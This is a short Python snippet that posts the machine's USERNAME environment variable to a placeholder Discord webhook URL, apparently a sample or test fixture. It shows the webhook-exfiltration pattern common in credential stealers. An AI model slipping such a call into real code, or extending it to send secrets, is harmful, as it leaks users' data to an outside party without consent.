import os

import requests

requests.post(
    "https://discord.com/api/webhooks/000000000000000000/not-a-real-token",
    json={"content": os.environ.get("USERNAME", "?")},
)
